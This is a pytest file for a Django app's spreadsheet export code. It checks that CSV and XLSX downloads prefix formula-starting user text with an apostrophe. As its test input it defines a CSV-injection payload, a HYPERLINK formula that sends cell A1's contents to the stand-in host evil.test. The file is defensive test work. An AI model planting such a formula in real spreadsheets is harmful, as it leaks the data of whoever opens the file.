"""Spreadsheet downloads never hand a spreadsheet program a formula typed by a user."""

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from django.http import Http404
from django.utils.translation import gettext_lazy
from openpyxl import load_workbook

from core.exports import export_response, neutralise

HOSTILE = '=HYPERLINK("http://evil.test/?"&A1,"klik")'


@pytest.mark.parametrize(
    "typed",
    [HOSTILE, "+62 812", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"],
)
def test_text_that_starts_a_formula_is_prefixed(typed):
    assert neutralise(typed) == "'" + typed


@pytest.mark.parametrize("value", ["Desa Serang", "Rp 1.000", "", "a=b", None, 3, -4, 2.5, Decimal("-1.5")])
def test_other_values_stay_as_they_are(value):
    assert neutralise(value) == value


def test_lazy_text_is_checked_too():
    assert neutralise(gettext_lazy("=1+1")) == "'=1+1"


def test_csv_and_xlsx_hold_text_not_formulas():
    rows = [[HOSTILE, -3, date(2026, 1, 2)]]
    response = export_response("csv", "uji", ["Nama", "Angka", "Tanggal"], rows)
    parsed = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert parsed[1][:2] == ["'" + HOSTILE, "-3"]
    assert response["Content-Disposition"] == 'attachment; filename="uji.csv"'

    response = export_response("xlsx", "uji", ["Nama", "Angka", "Tanggal"], rows)
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet["A2"].data_type != "f" and sheet["A2"].value == "'" + HOSTILE
    assert sheet["B2"].value == -3 and sheet["B2"].data_type == "n"


def test_unknown_format_is_404():
    with pytest.raises(Http404):
        export_response("pdf", "uji", ["Nama"], [])
